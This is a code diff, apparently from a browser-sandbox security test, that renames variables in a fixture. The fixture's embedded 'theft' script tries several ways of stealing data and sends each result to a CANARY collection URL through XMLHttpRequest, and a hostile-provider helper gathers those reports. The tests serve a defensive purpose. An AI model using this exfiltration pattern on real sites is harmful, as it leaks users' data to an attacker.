@@ -20,9 +20,9 @@ const theft = `
   for (const [way, steal] of Object.entries(ways)) {
     let got
     try { got = steal() } catch (error) { got = error.name }
-    const told = new XMLHttpRequest()
-    told.open('GET', 'CANARY?' + encodeURIComponent(way + ': ' + got), false)
-    try { told.send() } catch {}
+    const request = new XMLHttpRequest()
+    request.open('GET', 'CANARY?' + encodeURIComponent(way + ': ' + got), false)
+    try { request.send() } catch {}
   }`
 const html = `<!doctype html><title>x</title><script>${theft}</script>`
 const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${theft}]]></script></html>`
@@ -123,7 +123,7 @@ export async function openHostileProvider(elsewhere: string) {
   return {
     ...provider,
     /** What its scripts told since it was last asked. */
-    told: () =>
+    takeReports: () =>
       provider.calls
         .splice(0)
         .flatMap(({ path }) => path.split('/api/canary?')[1] ?? [])
